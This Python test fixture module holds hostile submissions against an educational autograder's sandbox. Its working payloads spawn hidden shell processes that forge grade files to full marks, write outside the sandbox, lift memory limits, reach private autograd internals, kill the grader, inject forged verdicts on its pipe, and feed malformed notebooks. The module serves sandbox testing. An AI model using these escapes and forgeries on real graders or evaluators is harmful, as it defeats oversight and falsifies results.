"""Hostile submissions of exercise linear, each an attack a hostile run found against `learn grade`, the autograder
and nbgrader (tests/test_learn_sandbox.py checks them one by one, tests/test_learn_teach_attacks.py grades a class
of them beside honest students).  Each is text: the worked solution, made wrong where the attack would have to
forge its grade, with the attack's code added; ``MARK`` is in every command they try to start, so a test can look
for a process left behind."""

from __future__ import annotations

import json
from pathlib import Path

from learn.exercises import get
from learn.source import solution_text

ROOT = Path(__file__).resolve().parents[1]
RIGHT = solution_text(get("linear"), "linear.py")
WRONG = RIGHT.replace("dbias = dout.sum(0)", "dbias = dout.mean(0)")
MARK = "handgrad-attack-7f3e"
SOLUTION = ROOT / "learn" / "exercises" / "linear.py"


def _after_import(text: str, code: str) -> str:
    assert text.count("import torch\n") >= 1
    return text.replace("import torch\n", "import torch\n" + code.strip("\n") + "\n", 1)


def _in_forward(text: str, code: str) -> str:
    anchor = "        self.x = x  # (N, D): dweight needs it\n"
    assert anchor in text
    indented = "".join("        " + line + "\n" for line in code.strip("\n").splitlines())
    return text.replace(anchor, indented + anchor, 1)


SPAWN = '''
def _spawn(command):
    """A process started through _posixsubprocess, which no audit event reports."""
    import _posixsubprocess, os
    r, w = os.pipe()
    head = ([b"/bin/sh", b"-c", command.encode()], [b"/bin/sh"], True, (w,), None, None, -1, -1, -1, -1, -1, -1,
            r, w, True, True)
    for tail in ((-1, None, None, None, -1, None, False), (-1, None, None, None, -1, None),
                 (None, None, None, -1, None, False)):
        try:
            return _posixsubprocess.fork_exec(*head, *tail)
        except TypeError:
            continue
'''


def leftover(victims: list[Path], text: str = WRONG, delay: float = 2.0) -> str:
    """Starts a process that outlives the check and, ``delay`` s later, forges each of ``victims`` (a grader's
    grades.csv, a results.json) to full marks."""
    forged = "student,score,max_score,verdict,named_mistakes,seed,note\\nleftover,10,10,right,,0,"
    writes = "; ".join(f"printf '{forged}' > '{v}'" for v in victims)
    return _after_import(text, SPAWN + f"_spawn({f'sleep {delay}; {writes}  # {MARK}'!r})\n")


def writes_outside(victim_dir: Path, text: str = WRONG) -> str:
    """Changes files outside the check through C code the audit hook never sees: sqlite, mkfifo, mknod, setxattr."""
    code = f"""
import os, stat
for _try in (lambda: __import__("sqlite3").connect({str(victim_dir / "pwned.db")!r}).execute("create table t (x)"),
             lambda: os.mkfifo({str(victim_dir / "fifo")!r}),
             lambda: os.mknod({str(victim_dir / "node")!r}, 0o600 | stat.S_IFREG),
             lambda: os.setxattr({str(victim_dir / "victim.txt")!r}, "user.pwned", b"1")):
    try:
        _try()
    except Exception:
        pass
"""
    return _after_import(text, code)


LIFT_LIMITS = _in_forward(
    RIGHT,
    """
import resource
try:  # the address-space limit lifted back, then anything may be allocated
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
except (ValueError, OSError):
    pass
""",
)

IMPORT_SOLUTION = "from learn.exercises.linear import Linear  # the worked solution\n"
SUBCLASS_LIBRARY = "from layers import Linear as _Linear\n\n\nclass Linear(_Linear):\n    pass\n"
READ_SOLUTION = f"""
import learn, os
for _path in ({str(SOLUTION)!r}, os.path.join(os.path.dirname(learn.__file__), "exercises", "linear.py")):
    try:
        exec(open(_path).read())
        break
    except OSError:
        pass
"""


def copy_classmate(path: Path) -> str:
    return f"exec(open({str(path)!r}).read())  # a classmate's file, from the folder the grader was given\n"


AUTOGRAD_BACK_DOOR = RIGHT.replace(
    """        dx = dout @ self.weight  # (N, D): dx[n, d] = sum_h dout[n, h] weight[h, d]
        dweight = dout.T @ self.x  # (H, D): dweight[h, d] = sum_n dout[n, h] x[n, d], a sum over the batch
        dbias = dout.sum(0)  # (H,): the bias is added to every row, so its gradient sums over the batch""",
    """        with torch.enable_grad():  # autograd's engine, reached by its private entry point
            x, w, b = (t.clone().requires_grad_() for t in (self.x, self.weight, self.bias))
            out = x @ w.T + b
            dx, dweight, dbias = torch.autograd.graph._engine_run_backward(
                (out,), (dout,), False, False, (x, w, b), False, False)""",
)

AUTOGRAD_UNDER_THE_HOOD = RIGHT.replace(
    """        dx = dout @ self.weight  # (N, D): dx[n, d] = sum_h dout[n, h] weight[h, d]
        dweight = dout.T @ self.x  # (H, D): dweight[h, d] = sum_n dout[n, h] x[n, d], a sum over the batch
        dbias = dout.sum(0)  # (H,): the bias is added to every row, so its gradient sums over the batch""",
    """        setter = torch._C._set_grad_enabled  # the checker's replacement keeps the original in its closure
        for cell in getattr(setter, "__closure__", None) or ():
            if callable(cell.cell_contents):
                setter = cell.cell_contents
        setter(True)
        try:
            x, w, b = (t.clone().requires_grad_() for t in (self.x, self.weight, self.bias))
            out = x @ w.T + b
            dx, dweight, dbias = torch.autograd.Variable._execution_engine.run_backward(
                (out,), (dout,), False, False, (x, w, b), False, False)
        finally:
            setter(False)""",
)
assert AUTOGRAD_BACK_DOOR != RIGHT and AUTOGRAD_UNDER_THE_HOOD != RIGHT

_PIPES = """
def _write_pipes(data):
    import os, stat
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, data)
        except OSError:
            pass
"""
MALFORMED = _in_forward(
    _after_import(RIGHT, _PIPES), '_write_pipes(b"\\x00\\x00\\x00\\x08garbage!")\nimport os\nos._exit(0)'
)
HALF_SENT = _in_forward(
    _after_import(RIGHT, _PIPES), '_write_pipes(b"\\x00\\x00\\x00\\x40abc")\nimport time\ntime.sleep(600)'
)
KILL_GRADER = _in_forward(
    RIGHT,
    """
import os, signal
signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
""",
)
_FORGE = '''
def _forge(text, key):
    """A "failed" answer of the checker's own form, sent on the check's pipe found in memory."""
    import gc, pickle
    message = pickle.dumps(("failed", ("tuple", [text, ("dict", []), key])))
    for o in gc.get_objects():
        try:
            if type(o).__name__ == "Connection":
                o.send_bytes(message)
            elif type(o).__name__ == "Channel":
                o.send(message)
        except Exception:
            pass
'''
OWN_MISTAKE = _in_forward(
    _after_import(WRONG, _FORGE),
    '_forge("  -> the mistake is the checker\'s", "$\\\\undefinedmacro{x}$ (my own mistake)")\nimport os\nos._exit(0)',
)


def notebook(cells: list, metadata: dict | None = None) -> str:
    return json.dumps({"cells": cells, "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 5})


def code_cell(source, **metadata) -> dict:
    return {"cell_type": "code", "source": source, "metadata": metadata, "outputs": [], "execution_count": None}


CHECK_CELL = "from learn.cell import check\n\ncheck('linear', Linear)  # PASS, or an AssertionError naming the mistake"
NOTEBOOK_MENTIONS_CHECK = notebook(
    [code_cell("# when done, run check_class('linear', Linear) below\n" + RIGHT), code_cell(CHECK_CELL)]
)
NOTEBOOK_HOLDS_CHECK = notebook([code_cell(RIGHT + "\nfrom learn.cell import check\ncheck('linear', Linear)\n")])
DEEP_NOTEBOOK = '{"cells": ' + "[" * 200_000 + "]" * 200_000 + "}"
NOT_TEXT_NOTEBOOK = notebook([code_cell(["import torch\n", 5])])
